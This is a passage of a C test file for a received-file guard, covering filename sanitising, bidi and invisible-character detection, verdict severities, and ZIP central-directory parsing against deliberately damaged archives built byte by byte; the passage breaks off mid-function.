/* test-file-guard.c — what a received file is: the name it is saved as,
 * what its bytes say, and the list of entries of a ZIP archive, read from
 * its end
 *
 * Invisible and bidirectional characters are written as escapes, so that
 * this file shows what is in it. ZIP archives are built here, byte by
 * byte, so that each can be damaged in exactly one way.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>
#include <unistd.h>
#include <glib.h>
#include <glib/gstdio.h>
#include <gio/gio.h>

#include "sotto-file-guard.h"
#include "sotto-transfer-private.h"

#define ASK       SOTTO_FILE_ASK
#define WARN      SOTTO_FILE_WARN
#define SHOW_ONLY SOTTO_FILE_SHOW_ONLY
#define BLOCK     SOTTO_FILE_BLOCK

/* A content given as a string literal, NUL bytes and all. */
#define BYTES(s) .bytes = (s), .len = sizeof (s) - 1

#define ODT_TYPE "application/vnd.oasis.opendocument.text"

/* Every id the guard may give, with the severity the rules fix for it. */
static const struct
{
  const char        *id;
  SottoFileSeverity  severity;
} known_findings[] = {
  { "renamed", SOTTO_FILE_NOTE },
  { "path", SOTTO_FILE_SUSPECT },
  { "bidi", SOTTO_FILE_SUSPECT },
  { "invisible", SOTTO_FILE_SUSPECT },
  { "control", SOTTO_FILE_SUSPECT },
  { "hidden", SOTTO_FILE_NOTE },
  { "reserved", SOTTO_FILE_NOTE },
  { "too-long", SOTTO_FILE_NOTE },
  { "double-extension", SOTTO_FILE_SUSPECT },
  { "executable", SOTTO_FILE_RUNS },
  { "script", SOTTO_FILE_RUNS },
  { "desktop-entry", SOTTO_FILE_RUNS },
  { "macros", SOTTO_FILE_RUNS },
  { "office-legacy", SOTTO_FILE_SUSPECT },
  { "archive", SOTTO_FILE_NOTE },
  { "archive-holds-program", SOTTO_FILE_SUSPECT },
  { "archive-unreadable", SOTTO_FILE_SUSPECT },
  { "type-mismatch", SOTTO_FILE_SUSPECT },
  { "empty", SOTTO_FILE_NOTE },
  { "infected", SOTTO_FILE_INFECTED },
  { "not-scanned", SOTTO_FILE_SUSPECT },
  { "scan-failed", SOTTO_FILE_SUSPECT },
};

static const char * const known_kinds[] = {
  "elf", "pe", "mach-o", "script", "desktop-entry", "java", "zip", "ooxml", "odf", "ole",
  "archive", "pdf", "image", "text", "empty", "unknown",
};

static const char * const device_names[] = {
  "CON", "PRN", "AUX", "NUL",
  "COM1", "COM2", "COM3", "COM4", "COM5", "COM6", "COM7", "COM8", "COM9",
  "LPT1", "LPT2", "LPT3", "LPT4", "LPT5", "LPT6", "LPT7", "LPT8", "LPT9",
};

/* ZIP archives ------------------------------------------------------------ */

typedef enum
{
  ZIP_INTACT,
  ZIP_COUNT_LARGE,          /* the end record counts one entry more than there is */
  ZIP_COUNT_SMALL,          /* one fewer */
  ZIP_CD_TRUNCATED,         /* the last entry cut in half, the list's size saying so */
  ZIP_NAME_PAST_END,        /* the last entry's name length runs far past the list */
  ZIP_NAME_INTO_END,        /* it runs 4 bytes into the end record */
  ZIP_EXTRA_PAST_END,       /* its extra field's length does */
  ZIP_COMMENT_PAST_END,     /* its comment's length does */
  ZIP_BAD_SIGNATURE,        /* the first entry is not one */
  ZIP_CD_SIZE_LARGE,        /* a list longer than the whole file */
  ZIP_END_TRUNCATED,        /* the file ends inside the end record */
  ZIP_NO_ZIP64_RECORD,      /* ZIP64 markers, and neither locator nor record */
  ZIP_BAD_ZIP64_RECORD,     /* a ZIP64 end record that is not one */
} ZipDamage;

typedef struct
{
  gsize     prefix_len;     /* bytes before the archive, which its offsets do not count */
  gboolean  zip64;          /* counts and sizes in a ZIP64 end record */
  guint     comment_len;    /* the archive's comment, this many bytes */
  gsize     trailing;       /* bytes after the end record that no field counts */
  ZipDamage damage;
} ZipOptions;

typedef struct
{
  gsize cd_start;           /* where the list of entries starts */
  gsize cd_end;             /* and ends: the end records follow */
} ZipLayout;

static void
put_u16 (GByteArray *bytes,
         guint       value)
{
  guint8 le[2] = { value & 0xFF, (value >> 8) & 0xFF };

  g_byte_array_append (bytes, le, sizeof le);
}

static void
put_u32 (GByteArray *bytes,
         guint32     value)
{
  put_u16 (bytes, value & 0xFFFF);
  put_u16 (bytes, value >> 16);
}

static void
put_u64 (GByteArray *bytes,
         guint64     value)
{
  put_u32 (bytes, value & 0xFFFFFFFF);
  put_u32 (bytes, value >> 32);
}

static void
set_u16 (GByteArray *bytes,
         gsize       at,
         guint       value)
{
  g_assert_cmpuint (at + 2, <=, bytes->len);
  bytes->data[at] = value & 0xFF;
  bytes->data[at + 1] = (value >> 8) & 0xFF;
}

static void
put_bytes (GByteArray *bytes,
           guint8      value,
           gsize       n)
{
  gsize start = bytes->len;

  if (n == 0)
    return;
  g_byte_array_set_size (bytes, start + n);
  memset (bytes->data + start, value, n);
}

/* The parser does not check CRCs; real ones keep the archives readable
 * with unzip, for whoever debugs a failure. */
static guint32
crc32_of (const guint8 *data,
          gsize         len)
{
  guint32 crc = 0xFFFFFFFF;

  for (gsize i = 0; i < len; i++)
    {
      crc ^= data[i];
      for (guint bit = 0; bit < 8; bit++)
        crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320 : crc >> 1;
    }

  return crc ^ 0xFFFFFFFF;
}

/* A stored (uncompressed) archive of @n_entries entries; @contents may be
 * NULL, and so may any of its items (an empty entry). */
static GByteArray *
build_zip (const char * const *names,
           const char * const *contents,
           guint               n_entries,
           const ZipOptions   *options,
           ZipLayout          *layout)
{
  static const ZipOptions plain = { 0 };
  static const guint8 elf[] = { 0x7F, 'E', 'L', 'F', 2, 1, 1, 0 };
  GByteArray *bytes = g_byte_array_new ();
  g_autofree guint32 *offsets = g_new0 (guint32, n_entries + 1);
  g_autofree guint32 *sizes = g_new0 (guint32, n_entries + 1);
  g_autofree guint32 *crcs = g_new0 (guint32, n_entries + 1);
  gsize base, cd_start, cd_end, end_at, last_entry = 0;
  guint64 n_counted = n_entries;
  guint64 cd_size, cd_offset;
  guint version = options != NULL && options->zip64 ? 45 : 20;

  if (options == NULL)
    options = &plain;

  /* A self-extracting archive: a program, then the archive. */
  if (options->prefix_len > 0)
    {
      put_bytes (bytes, 'x', options->prefix_len);
      memcpy (bytes->data, elf, MIN (sizeof elf, options->prefix_len));
    }
  base = bytes->len;

  for (guint i = 0; i < n_entries; i++)
    {
      const char *content = contents != NULL && contents[i] != NULL ? contents[i] : "";
      gsize name_len = strlen (names[i]);

      sizes[i] = strlen (content);
      crcs[i] = crc32_of ((const guint8 *) content, sizes[i]);
      offsets[i] = bytes->len - base;

      put_u32 (bytes, 0x04034B50);
      put_u16 (bytes, version);
      put_u16 (bytes, 0);              /* flags */
      put_u16 (bytes, 0);              /* stored */
      put_u16 (bytes, 0);              /* time */
      put_u16 (bytes, 0x21);           /* date: 1980-01-01 */
      put_u32 (bytes, crcs[i]);
      put_u32 (bytes, sizes[i]);
      put_u32 (bytes, sizes[i]);
      put_u16 (bytes, name_len);
      put_u16 (bytes, 0);              /* extra */
      g_byte_array_append (bytes, (const guint8 *) names[i], name_len);
      g_byte_array_append (bytes, (const guint8 *) content, sizes[i]);
    }

  cd_start = bytes->len;
  for (guint i = 0; i < n_entries; i++)
    {
      gsize name_len = strlen (names[i]);

      last_entry = bytes->len;
      put_u32 (bytes, 0x02014B50);
      put_u16 (bytes, 0x031E);         /* made by: Unix, 3.0 */
      put_u16 (bytes, version);
      put_u16 (bytes, 0);              /* flags */
      put_u16 (bytes, 0);              /* stored */
      put_u16 (bytes, 0);              /* time */
      put_u16 (bytes, 0x21);           /* date */
      put_u32 (bytes, crcs[i]);
      put_u32 (bytes, sizes[i]);
      put_u32 (bytes, sizes[i]);
      put_u16 (bytes, name_len);
      put_u16 (bytes, 0);              /* extra */
      put_u16 (bytes, 0);              /* comment */
      put_u16 (bytes, 0);              /* disk */
      put_u16 (bytes, 0);              /* internal attributes */
      put_u32 (bytes, 0x81A40000);     /* external: a file, rw-r--r-- */
      put_u32 (bytes, offsets[i]);
      g_byte_array_append (bytes, (const guint8 *) names[i], name_len);
    }

  switch (options->damage)
    {
    case ZIP_COUNT_LARGE:
      n_counted++;
      break;
    case ZIP_COUNT_SMALL:
      g_assert_cmpuint (n_entries, >, 0);
      n_counted--;
      break;
    case ZIP_CD_TRUNCATED:
      g_assert_cmpuint (n_entries, >, 0);
      g_byte_array_set_size (bytes, last_entry + (bytes->len - last_entry) / 2);
      break;
    case ZIP_NAME_PAST_END:
      g_assert_cmpuint (n_entries, >, 0);
      set_u16 (bytes, last_entry + 28, 0xFFFF);
      break;
    case ZIP_NAME_INTO_END:
      g_assert_cmpuint (n_entries, >, 0);
      set_u16 (bytes, last_entry + 28, strlen (names[n_entries - 1]) + 4);
      break;
    case ZIP_EXTRA_PAST_END:
      g_assert_cmpuint (n_entries, >, 0);
      set_u16 (bytes, last_entry + 30, 0xFFFF);
      break;
    case ZIP_COMMENT_PAST_END:
      g_assert_cmpuint (n_entries, >, 0);
      set_u16 (bytes, last_entry + 32, 0xFFFF);
      break;
    case ZIP_BAD_SIGNATURE:
      g_assert_cmpuint (n_entries, >, 0);
      bytes->data[cd_start + 2] = 9;
      bytes->data[cd_start + 3] = 9;
      break;
    case ZIP_INTACT:
    case ZIP_CD_SIZE_LARGE:
    case ZIP_END_TRUNCATED:
    case ZIP_NO_ZIP64_RECORD:
    case ZIP_BAD_ZIP64_RECORD:
    default:
      break;
    }

  cd_end = bytes->len;
  cd_size = cd_end - cd_start;
  cd_offset = cd_start - base;
  if (options->damage == ZIP_CD_SIZE_LARGE)
    cd_size = bytes->len + 1000;

  if (options->zip64 && options->damage != ZIP_NO_ZIP64_RECORD)
    {
      gsize record_at = bytes->len;
      guint64 record_offset = bytes->len - base;

      put_u32 (bytes, 0x06064B50);
      put_u64 (bytes, 44);             /* the record's size after this field */
      put_u16 (bytes, 45);
      put_u16 (bytes, 45);
      put_u32 (bytes, 0);              /* this disk */
      put_u32 (bytes, 0);              /* the list's disk */
      put_u64 (bytes, n_counted);
      put_u64 (bytes, n_counted);
      put_u64 (bytes, cd_size);
      put_u64 (bytes, cd_offset);
      if (options->damage == ZIP_BAD_ZIP64_RECORD)
        bytes->data[record_at + 3] = 9;

      put_u32 (bytes, 0x07064B50);     /* the locator */
      put_u32 (bytes, 0);
      put_u64 (bytes, record_offset);
      put_u32 (bytes, 1);
    }

  end_at = bytes->len;
  put_u32 (bytes, 0x06054B50);
  put_u16 (bytes, 0);
  put_u16 (bytes, 0);
  if (options->zip64)
    {
      put_u16 (bytes, 0xFFFF);
      put_u16 (bytes, 0xFFFF);
      put_u32 (bytes, 0xFFFFFFFF);
      put_u32 (bytes, 0xFFFFFFFF);
    }
  else
    {
      g_assert_cmpuint (n_counted, <, 0xFFFF);
      g_assert_cmpuint (cd_size, <, 0xFFFFFFFF);
      g_assert_cmpuint (cd_offset, <, 0xFFFFFFFF);
      put_u16 (bytes, n_counted);
      put_u16 (bytes, n_counted);
      put_u32 (bytes, cd_size);
      put_u32 (bytes, cd_offset);
    }
  g_assert_cmpuint (options->comment_len, <=, 0xFFFF);
  put_u16 (bytes, options->comment_len);
  put_bytes (bytes, 'c', options->comment_len);
  put_bytes (bytes, 't', options->trailing);

  if (options->damage == ZIP_END_TRUNCATED)
    g_byte_array_set_size (bytes, end_at + 12);

  if (layout != NULL)
    {
      layout->cd_start = cd_start;
      layout->cd_end = cd_end;
    }

  return bytes;
}

static guint
count_names (const char * const *names,
             guint               max)
{
  guint n = 0;

  while (n < max && names[n] != NULL)
    n++;

  return n;
}

/* The last @tail_len bytes of @zip, as the guard reads them. */
static GPtrArray *
list_tail (const GByteArray  *zip,
           gsize              tail_len,
           guint64            size,
           GError           **error)
{
  g_assert_cmpuint (tail_len, <=, zip->len);

  return sotto_zip_list_entries (zip->data + (zip->len - tail_len), tail_len, size, error);
}

static void
assert_names_valid (const GPtrArray *listed)
{
  g_assert_cmpuint (listed->len, <=, SOTTO_FILE_ZIP_ENTRIES_MAX);
  for (guint i = 0; i < listed->len; i++)
    {
      const char *name = g_ptr_array_index (listed, i);

      g_assert_nonnull (name);
      g_assert_true (g_utf8_validate (name, -1, NULL));
    }
}

static void
assert_listed (const GPtrArray    *listed,
               const char * const *expected,
               guint               n_expected)
{
  g_assert_nonnull (listed);
  assert_names_valid (listed);
  g_assert_cmpuint (listed->len, ==, n_expected);
  for (guint i = 0; i < n_expected; i++)
    g_assert_cmpstr (g_ptr_array_index (listed, i), ==, expected[i]);
}

static void
assert_refused (const GPtrArray *listed,
                const GError    *error,
                gboolean         any_code)
{
  g_assert_null (listed);
  g_assert_nonnull (error);
  g_test_message ("  refused: %s", error->message);
  if (any_code)
    g_assert_true (error->domain == G_IO_ERROR);
  else
    g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_DATA);
  g_assert_cmpstr (error->message, !=, "");
}

/* Names, text and the like ------------------------------------------------- */

static gboolean
is_bidi_control (gunichar c)
{
  return (c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069) ||
         c == 0x200E || c == 0x200F || c == 0x061C;
}

static gboolean
is_invisible (gunichar c)
{
  return (c >= 0x200B && c <= 0x200D) || (c >= 0x2060 && c <= 0x2064) || c == 0xFEFF ||
         c == 0x00AD || c == 0x180E || (c >= 0xFE00 && c <= 0xFE0F) ||
         (c >= 0xE0000 && c <= 0xE007F);
}

static gboolean
is_control (gunichar c)
{
  return c < 0x20 || (c >= 0x7F && c <= 0x9F);
}

static gboolean
text_has (const char *text,
          gboolean  (*is_one) (gunichar c))
{
  for (const char *p = text; *p != '\0'; p = g_utf8_next_char (p))
    if (is_one (g_utf8_get_char (p)))
      return TRUE;

  return FALSE;
}

/* What follows the last folder separator: what the rules look at. */
static const char *
last_part (const char *name)
{
  const char *last = name;

  for (const char *p = name; *p != '\0'; p++)
    if (*p == '/' || *p == '\\')
      last = p + 1;

  return last;
}

static gboolean
is_device_name (const char *safe_name)
{
  const char *dot = strchr (safe_name, '.');
  gsize stem_len = dot != NULL ? (gsize) (dot - safe_name) : strlen (safe_name);

  for (guint i = 0; i < G_N_ELEMENTS (device_names); i++)
    if (strlen (device_names[i]) == stem_len &&
        g_ascii_strncasecmp (safe_name, device_names[i], stem_len) == 0)
      return TRUE;

  return FALSE;
}

/* For the test log: readable even when the name holds an RLO or is not
 * UTF-8, and short for the long ones. */
static char *
describe (const char *text)
{
  g_autofree char *valid = g_utf8_make_valid (text, -1);
  GString *out = g_string_new ("“");
  const char *p = valid;

  for (guint n = 0; *p != '\0' && n < 60; p = g_utf8_next_char (p), n++)
    {
      gunichar c = g_utf8_get_char (p);

      if (is_control (c) || c == 0xA0 || is_bidi_control (c) || is_invisible (c) ||
          g_unichar_type (c) == G_UNICODE_FORMAT)
        g_string_append_printf (out, "\\u{%04X}", (guint) c);
      else
        g_string_append_unichar (out, c);
    }
  g_string_append (out, "”");
  if (*p != '\0')
    g_string_append_printf (out, "… (%" G_GSIZE_FORMAT " bytes)", strlen (text));

  return g_string_free (out, FALSE);
}

static char *
finding_ids (const SottoFileVerdict *verdict)
{
  GString *ids = g_string_new (NULL);

  for (guint i = 0; i < verdict->findings->len; i++)
    {
      const SottoFileFinding *finding = g_ptr_array_index (verdict->findings, i);

      g_string_append_printf (ids, "%s%s", i > 0 ? ", " : "", finding->id);
    }
  if (ids->len == 0)
    g_string_append (ids, "(no findings)");

  return g_string_free (ids, FALSE);
}

/* Spelled so that a failure names the finding. */
static void
assert_finding (const SottoFileVerdict *verdict,
                const char             *id,
                gboolean                expected)
{
  const char *found = sotto_file_verdict_has_finding (verdict, id) ? id : "(not found)";

  if (expected)
    g_assert_cmpstr (found, ==, id);
  else
    g_assert_cmpstr (found, ==, "(not found)");
}

static const SottoFileFinding *
get_finding (const SottoFileVerdict *verdict,
             const char             *id)
{
  for (guint i = 0; i < verdict->findings->len; i++)
    {
      const SottoFileFinding *finding = g_ptr_array_index (verdict->findings, i);

      if (g_str_equal (finding->id, id))
        return finding;
    }

  return NULL;
}

/* What every saved name keeps, whatever it was sent as. */
static void
assert_safe_name (const char *safe_name)
{
  g_assert_nonnull (safe_name);
  g_assert_cmpstr (safe_name, !=, "");
  g_assert_true (g_utf8_validate (safe_name, -1, NULL));
  g_assert_cmpuint (strlen (safe_name), <=, SOTTO_FILE_NAME_MAX);
  g_assert_cmpint (safe_name[0], !=, '.');
  g_assert_cmpint (safe_name[0], !=, ' ');
  g_assert_false (is_device_name (safe_name));

  for (const char *p = safe_name; *p != '\0'; p = g_utf8_next_char (p))
    {
      gunichar c = g_utf8_get_char (p);

      g_assert_cmpuint (c, !=, '/');
      g_assert_cmpuint (c, !=, '\\');
      g_assert_false (is_control (c));
      g_assert_false (is_bidi_control (c));
      g_assert_false (is_invisible (c));
      g_assert_false (c < 0x80 && strchr ("<>:\"|?*", (int) c) != NULL);
    }
}

static void
assert_verdicts_equal (const SottoFileVerdict *a,
                       const SottoFileVerdict *b)
{
  g_assert_cmpstr (a->name, ==, b->name);
  g_assert_cmpstr (a->shown_name, ==, b->shown_name);
  g_assert_cmpstr (a->safe_name, ==, b->safe_name);
  g_assert_cmpstr (a->declared_type, ==, b->declared_type);
  g_assert_cmpstr (a->sniffed_type, ==, b->sniffed_type);
  g_assert_cmpstr (a->kind, ==, b->kind);
  g_assert_cmpint (a->action, ==, b->action);
  g_assert_cmpuint (a->findings->len, ==, b->findings->len);
  for (guint i = 0; i < a->findings->len; i++)
    {
      const SottoFileFinding *fa = g_ptr_array_index (a->findings, i);
      const SottoFileFinding *fb = g_ptr_array_index (b->findings, i);

      g_assert_cmpstr (fa->id, ==, fb->id);
      g_assert_cmpint (fa->severity, ==, fb->severity);
      g_assert_cmpstr (fa->text, ==, fb->text);
    }
}

/* What holds for every verdict, whatever the name and the content: the
 * rules that need no table. */
static void
assert_consistent (const SottoFileVerdict *verdict,
                   const char             *name,
                   const SottoFileContent *content)
{
  g_autofree char *valid = g_utf8_make_valid (name, -1);
  g_autofree char *safe_name = sotto_file_safe_name (name);
  g_autofree char *declared = NULL;
  g_autoptr (SottoFileVerdict) copy = NULL;
  const char *part = last_part (valid);
  SottoFileSeverity worst = SOTTO_FILE_NOTE;
  SottoFileAction expected;
  gboolean kind_known = FALSE;

  g_assert_nonnull (verdict);
  g_assert_cmpstr (verdict->name, ==, valid);

  assert_safe_name (verdict->safe_name);
  g_assert_cmpstr (verdict->safe_name, ==, safe_name);

  g_assert_nonnull (verdict->shown_name);
  g_assert_true (g_utf8_validate (verdict->shown_name, -1, NULL));
  g_assert_false (text_has (verdict->shown_name, is_bidi_control));
  g_assert_false (text_has (verdict->shown_name, is_invisible));

  declared = g_content_type_guess (verdict->safe_name, NULL, 0, NULL);
  g_assert_cmpstr (verdict->declared_type, ==, declared);
  g_assert_nonnull (verdict->sniffed_type);
  if (content->head_len > 0)
    {
      g_autofree char *sniffed = g_content_type_guess (NULL, content->head,
                                                       content->head_len, NULL);

      g_assert_cmpstr (verdict->sniffed_type, ==, sniffed);
    }

  g_assert_nonnull (verdict->kind);
  for (guint k = 0; k < G_N_ELEMENTS (known_kinds); k++)
    kind_known |= g_str_equal (verdict->kind, known_kinds[k]);
  if (!kind_known)
    g_test_message ("unknown kind “%s”", verdict->kind);
  g_assert_true (kind_known);

  g_assert_nonnull (verdict->findings);
  for (guint i = 0; i < verdict->findings->len; i++)
    {
      const SottoFileFinding *finding = g_ptr_array_index (verdict->findings, i);
      gboolean known = FALSE;

      g_assert_nonnull (finding->id);
      g_assert_nonnull (finding->text);
      g_assert_cmpstr (finding->text, !=, "");
      g_test_message ("  %s: %s", finding->id, finding->text);
      assert_finding (verdict, finding->id, TRUE);

      /* At most once. */
      for (guint j = 0; j < i; j++)
        {
          const SottoFileFinding *earlier = g_ptr_array_index (verdict->findings, j);

          g_assert_cmpstr (earlier->id, !=, finding->id);
        }

      for (guint k = 0; k < G_N_ELEMENTS (known_findings); k++)
        if (g_str_equal (finding->id, known_findings[k].id))
          {
            known = TRUE;
            g_assert_cmpint (finding->severity, ==, known_findings[k].severity);
          }
      if (!known)
        g_test_message ("unknown finding id “%s”", finding->id);
      g_assert_true (known);
      worst = MAX (worst, finding->severity);
    }
  assert_finding (verdict, "no-such-finding", FALSE);

  /* The worst finding decides. */
  if (worst == SOTTO_FILE_INFECTED)
    expected = BLOCK;
  else if (worst == SOTTO_FILE_RUNS)
    expected = SHOW_ONLY;
  else if (worst == SOTTO_FILE_SUSPECT)
    expected = WARN;
  else
    expected = ASK;
  g_assert_cmpint (verdict->action, ==, expected);

  /* The name rules that are one test each. */
  assert_finding (verdict, "path", part != valid);
  assert_finding (verdict, "control", text_has (part, is_control));
  assert_finding (verdict, "bidi", text_has (part, is_bidi_control));
  assert_finding (verdict, "invisible", text_has (part, is_invisible));
  assert_finding (verdict, "renamed", !g_str_equal (verdict->safe_name, valid));

  /* And the content rules that are. */
  assert_finding (verdict, "empty", content->size == 0);
  g_assert_cmpint (g_str_equal (verdict->kind, "empty"), ==, content->size == 0);
  assert_finding (verdict, "infected", content->scan == SOTTO_SCAN_INFECTED);
  assert_finding (verdict, "not-scanned", content->scan == SOTTO_SCAN_NOT_SCANNED);
  assert_finding (verdict, "scan-failed", content->scan == SOTTO_SCAN_FAILED);
  if (content->scan == SOTTO_SCAN_INFECTED && content->scan_detail != NULL)
    {
      const SottoFileFinding *infected = get_finding (verdict, "infected");

      g_assert_nonnull (strstr (infected->text, content->scan_detail));
    }

  copy = sotto_file_verdict_copy (verdict);
  assert_verdicts_equal (verdict, copy);
}

/* A content held in memory, cut into head and tail as
 * sotto_file_guard_check_path() reads a file. */
static SottoFileContent
content_of (const guint8    *data,
            gsize            len,
            SottoScanResult  scan,
            const char      *scan_detail)
{
  SottoFileContent content = { 0 };

  content.head = len > 0 ? data : (const guint8 *) "";
  content.head_len = MIN (len, SOTTO_FILE_HEAD_LEN);
  if (len > SOTTO_FILE_HEAD_LEN)
    {
      content.tail_len = MIN (len, SOTTO_FILE_TAIL_LEN);
      content.tail = data + (len - content.tail_len);
    }
  content.size = len;
  content.scan = scan;
  content.scan_detail = scan_detail;

  return content;
}

static void
assert_row_findings (const SottoFileVerdict *verdict,
                     const char * const     *present,
                     guint                   max_present,
                     const char * const     *absent,
                     guint                   max_absent,
                     gboolean                complete)
{
  guint n_present = count_names (present, max_present);

  for (guint j = 0; j < n_present; j++)
    assert_finding (verdict, present[j], TRUE);
  for (guint j = 0; j < count_names (absent, max_absent); j++)
    assert_finding (verdict, absent[j], FALSE);
  if (complete)
    g_assert_cmpuint (verdict->findings->len, ==, n_present);
}

/* /file-guard/zip ----------------------------------------------------------- */

typedef enum
{
  LISTED,
  REFUSED,
  EITHER,        /* the rules leave it open: only no crash */
} ZipOutcome;

typedef struct
{
  const char *what;
  const char *names[5];
  const char *listed[5];     /* NULL: the names */
  ZipOptions  options;
  ZipOutcome  outcome;
  gboolean    any_code;      /* refused with some G_IO_ERROR, not only INVALID_DATA */
} ZipCase;

static const ZipCase zip_cases[] = {
  { "one entry", { "a.txt" } },
  { "an Office document's entries, in order",
    { "[Content_Types].xml", "_rels/.rels", "word/document.xml", "docProps/app.xml" } },
  { "no entries", { NULL } },
  { "folders and UTF-8 names", { "dir/", "dir/r\u00e9sum\u00e9.pdf", "\u65e5\u672c\u8a9e.txt" } },
  { "a name that is not UTF-8, made valid", { "bad\xff.txt", "ok.txt" },
    { "bad\xef\xbf\xbd.txt", "ok.txt" } },
  { "an empty name", { "", "a.txt" } },
  { "after a program (self-extracting)", { "a.txt", "setup.exe" },
    .options = { .prefix_len = 5000 } },
  { "ZIP64", { "a.txt", "b.txt", "c/" }, .options = { .zip64 = TRUE } },
  { "ZIP64, no entries", { NULL }, .options = { .zip64 = TRUE } },
  { "a comment", { "a.txt" }, .options = { .comment_len = 1000 } },
  { "the longest comment", { "a.txt" }, .options = { .comment_len = 0xFFFF } },
  { "ZIP64 and a comment", { "a.txt" }, .options = { .zip64 = TRUE, .comment_len = 300 } },
  { "a prefix and a comment", { "a.txt" }, .options = { .prefix_len = 64, .comment_len = 10 } },

  /* Damaged: refused, never read past. */
  { "one entry more counted than there is", { "a.txt", "b.txt" },
    .options = { .damage = ZIP_COUNT_LARGE }, .outcome = REFUSED },
  { "one entry fewer counted", { "a.txt", "b.txt" },
    .options = { .damage = ZIP_COUNT_SMALL }, .outcome = REFUSED },
  { "no entries counted, one there", { "a.txt" },
    .options = { .damage = ZIP_COUNT_SMALL }, .outcome = REFUSED },
  { "the list cut short", { "a.txt", "b.txt" },
    .options = { .damage = ZIP_CD_TRUNCATED }, .outcome = REFUSED },
  { "the list cut short, after a program", { "a.txt", "b.txt" },
    .options = { .prefix_len = 100, .damage = ZIP_CD_TRUNCATED }, .outcome = REFUSED },
  { "a name length past the end", { "a.txt", "b.txt" },
    .options = { .damage = ZIP_NAME_PAST_END }, .outcome = REFUSED },
  { "a name length into the end record", { "a.txt", "b.txt" },
    .options = { .damage = ZIP_NAME_INTO_END }, .outcome = REFUSED },
  { "an extra field length past the end", { "a.txt", "b.txt" },
    .options = { .damage = ZIP_EXTRA_PAST_END }, .outcome = REFUSED },
  { "an entry comment length past the end", { "a.txt", "b.txt" },
    .options = { .damage = ZIP_COMMENT_PAST_END }, .outcome = REFUSED },
  { "an entry with a bad signature", { "a.txt", "b.txt" },
    .options = { .damage = ZIP_BAD_SIGNATURE }, .outcome = REFUSED },
  { "a list longer than the file", { "a.txt", "b.txt" },
    .options = { .damage = ZIP_CD_SIZE_LARGE }, .outcome = REFUSED },
  { "the end record cut short", { "a.txt" },
    .options = { .damage = ZIP_END_TRUNCATED }, .outcome = REFUSED, .any_code = TRUE },
  { "an end record too far from the end", { "a.txt" },
    .options = { .comment_len = 0xFFFF, .trailing = 1 }, .outcome = REFUSED, .any_code = TRUE },
  { "ZIP64 markers, no ZIP64 record", { "a.txt" },
    .options = { .zip64 = TRUE, .damage = ZIP_NO_ZIP64_RECORD }, .outcome = REFUSED,
    .any_code = TRUE },
  { "a damaged ZIP64 record", { "a.txt" },
    .options = { .zip64 = TRUE, .damage = ZIP_BAD_ZIP64_RECORD }, .outcome = REFUSED,
    .any_code = TRUE },
  { "ZIP64, one entry more counted", { "a.txt", "b.txt" },
    .options = { .zip64 = TRUE, .damage = ZIP_COUNT_LARGE }, .outcome = REFUSED },
  { "ZIP64, the list cut short", { "a.txt", "b.txt" },
    .options = { .zip64 = TRUE, .damage = ZIP_CD_TRUNCATED }, .outcome = REFUSED },

  /* Whether a ZIP64 record is found by the locator's offset (which does
   * not count the prefix) or just before the locator is left open. */
  { "ZIP64 after a program", { "a.txt" },
    .options = { .prefix_len = 100, .zip64 = TRUE }, .outcome = EITHER },
};

static const char * const outcome_names[] = { "listed", "refused", "either" };

/* Small archives are read from every possible tail, and cut short at
 * every byte: ASan and the expectations see each bound. */
#define SWEEP_MAX 8192

static void
sweep_tails (const GByteArray   *zip,
             const ZipLayout    *layout,
             const char * const *expected,
             guint               n_expected,
             ZipOutcome          outcome)
{
  gsize needed = zip->len - layout->cd_start;

  for (gsize tail_len = 0; tail_len <= zip->len; tail_len++)
    {
      g_autoptr (GError) error = NULL;
      g_autoptr (GPtrArray) listed = list_tail (zip, tail_len, zip->len, &error);

      if (outcome != LISTED)
        {
          if (listed != NULL)
            assert_names_valid (listed);
          else
            g_assert_nonnull (error);
        }
      else if (tail_len >= needed)
        {
          g_assert_no_error (error);
          assert_listed (listed, expected, n_expected);
        }
      else
        {
          g_assert_null (listed);
          g_assert_true (error != NULL && error->domain == G_IO_ERROR);
        }
    }

  /* A file cut short: whatever is left, read safely. */
  for (gsize cut = 0; cut < zip->len; cut++)
    {
      g_autoptr (GError) error = NULL;
      g_autoptr (GPtrArray) listed = sotto_zip_list_entries (zip->data, cut, cut, &error);

      if (listed != NULL)
        assert_names_valid (listed);
      else
        g_assert_true (error != NULL && error->domain == G_IO_ERROR);
    }
}

static void
test_zip_cases (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (zip_cases); i++)
    {
      const ZipCase *row = &zip_cases[i];
      guint n_names = count_names (row->names, G_N_ELEMENTS (row->names));
      const char * const *expected = row->listed[0] != NULL ? row->listed : row->names;
      ZipLayout layout = { 0 };
      g_autoptr (GByteArray) zip = NULL;
      g_autoptr (GPtrArray) listed = NULL;
      g_autoptr (GError) error = NULL;

      zip = build_zip (row->names, NULL, n_names, &row->options, &layout);
      g_test_message ("%u: %s: %u entr%s in %u bytes (expected %s)", i, row->what, n_names,
                      n_names == 1 ? "y" : "ies", zip->len, outcome_names[row->outcome]);

      /* The whole archive as the tail. */
      listed = list_tail (zip, zip->len, zip->len, &error);
      switch (row->outcome)
        {
        case LISTED:
          g_assert_no_error (error);
          assert_listed (listed, expected, n_names);
          break;
        case REFUSED:
          assert_refused (listed, error, row->any_code);
          break;
        case EITHER:
        default:
          if (listed != NULL)
            assert_names_valid (listed);
          else
            g_assert_true (error != NULL && error->domain == G_IO_ERROR);
          break;
        }

      if (row->outcome == LISTED)
        {
          gsize needed = zip->len - layout.cd_start;

          /* The list and the end records are all that is needed... */
          g_clear_pointer (&listed, g_ptr_array_unref);
          listed = list_tail (zip, needed, zip->len, &error);
          g_assert_no_error (error);
          assert_listed (listed, expected, n_names);

          /* ...and one byte less is not within the tail. */
          if (needed > 0 && needed < zip->len)
            {
              g_clear_pointer (&listed, g_ptr_array_unref);
              listed = list_tail (zip, needed - 1, zip->len, &error);
              assert_refused (listed, error, layout.cd_end == layout.cd_start);
              g_clear_error (&error);
            }

          /* Offsets that do not count a prefix do not matter. */
          if (!row->options.zip64)
            {
              g_clear_pointer (&listed, g_ptr_array_unref);
              listed = list_tail (zip, zip->len, zip->len + 1000, &error);
              g_assert_no_error (error);
              assert_listed (listed, expected, n_names);
            }
        }

      if (zip->len <= SWEEP_MAX)
